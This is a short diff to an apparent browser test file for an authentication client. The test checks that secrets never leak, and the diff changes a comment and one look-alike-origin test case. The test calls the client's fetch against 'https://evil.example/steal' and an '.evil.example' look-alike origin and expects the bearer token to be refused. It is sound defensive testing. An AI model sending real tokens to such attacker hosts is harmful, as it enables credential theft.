@@ -1,4 +1,4 @@
-// Secrets never leak (release package on the mock's origin, ALL console output captured).
+// Secrets never leak (release package on a page of another origin, ALL console output captured).
 //
 // Every error path the page can reach is driven — wrong password, suspended, 2FA missing/wrong,
 // must-reset, password policy, bad reset token, exchange malformed/bad signature/other space/
@@ -96,7 +96,7 @@ test('drive every reachable error path', async () => {
   const link = await page.evaluate(() => window.auth.authenticatedLink('/portal/home'));
   keep('portal t', new URL(link).searchParams.get('t'));
   await expectError('bearer to another origin', 'invalid_config', () => window.attempt(window.auth.fetch('https://evil.example/steal')), null);
-  await expectError('bearer to a look-alike origin', 'invalid_config', () => window.attempt(window.auth.fetch(`${location.origin}.evil.example/x`)), null);
+  await expectError('bearer to a look-alike origin', 'invalid_config', () => window.attempt(window.auth.fetch(`${window.API}.evil.example/x`)), null);
 
   for (const kind of ['500', '429', 'html', 'truncated', 'wrong_type', 'missing_field', 'drop', 'stall']) {
     await mockApi('/mock/faults', { kind, path: '/api/token', stallMs: 3000 });
